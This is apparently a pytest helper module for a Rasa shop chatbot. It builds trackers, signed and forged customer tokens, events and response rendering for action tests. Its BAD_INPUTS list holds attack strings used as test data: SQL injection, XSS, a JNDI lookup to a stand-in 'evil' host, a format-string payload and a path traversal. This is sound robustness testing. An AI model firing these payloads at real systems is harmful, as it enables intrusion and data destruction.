"""Helpers for the action tests: rasa_sdk Trackers built from events, tokens, the real domain.

Trackers look like the ones the Rasa server sends to the action server: a sender id, the slots
(every domain slot, with its initial value), ``latest_message`` parse data with intent, entities,
text and metadata, and an events list whose latest ``user`` event carries the metadata (where the
website's ``customer_token`` travels). Form validation candidates are trailing ``slot`` events,
which is where ``Tracker.slots_to_validate()`` looks for them.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from rasa_sdk import Tracker
from rasa_sdk.executor import CollectingDispatcher

from tests.conftest import TEST_SECRET

ALICE, BOB, CARLA, DAVID = 1, 2, 3, 4
EMAILS = {
    ALICE: "alice.martin@example.com",
    BOB: "bob.nguyen@example.com",
    CARLA: "carla.rossi@example.com",
    DAVID: "david.okafor@example.com",
}
DOMAIN_PATH = Path(__file__).resolve().parents[2] / "domain.yml"
BAD_INPUTS = [
    "",
    "   ",
    "x" * 100_000,
    "😀🔥💥" * 500,
    "'; DROP TABLE orders; --",
    "<script>alert('x')</script>",
    "{{7*7}} ${jndi:ldap://evil/a}",
    "\x00\x01\x02 binary \x7f",
    "%s%s%s%n",
    "../../etc/passwd",
]


@pytest.fixture(autouse=True)
def _fresh_security_state(request: pytest.FixtureRequest) -> None:
    """Chat verifications and failure counters live in the database: each test starts without them."""
    if "db_url" not in request.fixturenames:
        return
    request.getfixturevalue("db_url")
    from bot.db.models import ChatVerification, SecurityCounter
    from bot.db.session import session_scope

    with session_scope() as session:
        session.query(ChatVerification).delete()
        session.query(SecurityCounter).delete()


def chat_verify(customer_id: int, sender_id: str = "conv-test", session_id: str = "") -> None:
    """What a successful in-chat verification leaves behind (the binding in the database)."""
    from bot.db.session import session_scope
    from bot.services.verification import bind_chat_verification

    with session_scope() as session:
        bind_chat_verification(session, sender_id, session_id, customer_id)


def load_domain() -> dict[str, Any]:
    with DOMAIN_PATH.open(encoding="utf-8") as fh:
        return yaml.safe_load(fh)


@pytest.fixture(scope="session")
def domain() -> dict[str, Any]:
    """The real domain.yml as the dict the action server receives."""
    return load_domain()


@pytest.fixture
def dispatcher() -> CollectingDispatcher:
    return CollectingDispatcher()


def token_for(customer_id: int, secret: str = TEST_SECRET, ttl_s: int = 3600, now: float | None = None) -> str:
    """A website token as the shop would sign it (TEST_SECRET is what the fixtures configure)."""
    from bot.services.identity import sign_token

    return sign_token(customer_id, ttl_s=ttl_s, secret=secret, now=now)


def expired_token_for(customer_id: int) -> str:
    return token_for(customer_id, ttl_s=60, now=time.time() - 3600)


def forged_token_for(customer_id: int) -> str:
    return token_for(customer_id, secret="an-attacker-guessed-this-secret")


def initial_slots(domain: dict[str, Any]) -> dict[str, Any]:
    slots = {name: spec.get("initial_value") for name, spec in domain["slots"].items()}
    slots["requested_slot"] = None
    return slots


def user_event(
    text: str = "",
    intent: str | None = None,
    entities: list[dict[str, Any]] | None = None,
    metadata: dict[str, Any] | None = None,
    confidence: float = 0.95,
) -> dict[str, Any]:
    parse_data = {
        "text": text,
        "intent": {"name": intent, "confidence": confidence} if intent else {},
        "entities": entities or [],
        "intent_ranking": [{"name": intent, "confidence": confidence}] if intent else [],
        "metadata": metadata or {},
    }
    return {
        "event": "user",
        "timestamp": time.time(),
        "text": text,
        "parse_data": parse_data,
        "input_channel": "rest",
        "message_id": "m-test",
        "metadata": metadata or {},
    }


def slot_event(name: str, value: Any) -> dict[str, Any]:
    return {"event": "slot", "timestamp": time.time(), "name": name, "value": value}


def make_tracker(
    domain: dict[str, Any],
    *,
    text: str = "",
    intent: str | None = None,
    entities: list[dict[str, Any]] | None = None,
    token: str | None = None,
    metadata: dict[str, Any] | None = None,
    slots: dict[str, Any] | None = None,
    form: str | None = None,
    requested_slot: str | None = None,
    candidates: dict[str, Any] | None = None,
    history: list[dict[str, Any]] | None = None,
    sender_id: str = "conv-test",
) -> Tracker:
    """A Tracker after the latest user message.

    ``token`` goes into the user message metadata as ``customer_token``; ``form`` makes the form the
    active loop with ``requested_slot``; ``candidates`` are slot values extracted from this message,
    appended as trailing slot events (what a FormValidationAction validates).
    """
    meta = dict(metadata or {})
    if token is not None:
        meta["customer_token"] = token
    all_slots = initial_slots(domain)
    all_slots.update(slots or {})
    events: list[dict[str, Any]] = [{"event": "action", "timestamp": time.time(), "name": "action_listen"}]
    events += history or []
    if form:
        events.append({"event": "active_loop", "timestamp": time.time(), "name": form})
        all_slots["requested_slot"] = requested_slot
        events.append(slot_event("requested_slot", requested_slot))
        events.append({"event": "action", "timestamp": time.time(), "name": "action_listen"})
    user = user_event(text, intent, entities, meta)
    events.append(user)
    for name, value in (candidates or {}).items():
        events.append(slot_event(name, value))
        all_slots[name] = value
    active_loop = {"name": form, "validate": True, "rejected": False, "trigger_message": {}} if form else {}
    return Tracker(
        sender_id,
        all_slots,
        user["parse_data"],
        events,
        False,
        None,
        active_loop,
        "action_listen",
    )


def _variation(name: str, lang: str) -> dict[str, Any]:
    """The response's variation for ``lang``: its language=zh one for zh, else the first plain one."""
    variations = _responses()[name]
    if lang != "en":
        for variation in variations:
            if any(c.get("name") == "language" and c.get("value") == lang for c in variation.get("condition") or []):
                return variation
    return next(v for v in variations if not v.get("condition"))


def render(message: dict[str, Any], lang: str = "en") -> str:
    """The text the customer sees: a response from domain.yml (dispatched by name with values) is
    filled in as Rasa's template generator does, with the message's values, in ``lang``."""
    if message.get("text"):
        return str(message["text"])
    name = message.get("response")
    if not name:
        return ""
    values = {k: v for k, v in message.items() if k not in ("text", "response", "template", "buttons")}
    return str(_variation(name, lang)["text"]).format(**values)


def buttons(message: dict[str, Any], lang: str = "en") -> list[dict[str, Any]]:
    """The buttons the customer sees: the response's own, then the action's (as Rasa appends them)."""
    own = _variation(message["response"], lang).get("buttons") or [] if message.get("response") else []
    return [*own, *(message.get("buttons") or [])]


_RESPONSES: dict[str, Any] = {}


def _responses() -> dict[str, Any]:
    if not _RESPONSES:
        _RESPONSES.update(load_domain()["responses"])
    return _RESPONSES


def texts(dispatcher: CollectingDispatcher) -> list[str]:
    return [render(m) for m in dispatcher.messages]


def one_text(dispatcher: CollectingDispatcher) -> str:
    """The single message the action sent (fails when it sent none or several)."""
    sent = texts(dispatcher)
    assert len(sent) == 1, sent
    return sent[0]


def slot_values(events: list[dict[str, Any]]) -> dict[str, Any]:
    """Slot name -> value set by the events (the last event for a slot wins)."""
    return {e["name"]: e["value"] for e in events if e.get("event") == "slot"}


def assert_polite(text: str) -> None:
    """A reply a customer may see: non-empty, bounded, and no stack trace or internals."""
    assert text.strip()
    assert len(text) < 2000
    for leak in ("Traceback", "Error:", "Exception", "sqlalchemy", "sqlite", 'File "', "None"):
        assert leak not in text, text


def run(action: Any, dispatcher: CollectingDispatcher, tracker: Tracker, domain: dict[str, Any]):  # noqa: ANN201
    """``await run(...)``: the action's run exactly as the action server calls it."""
    return action.run(dispatcher, tracker, domain)
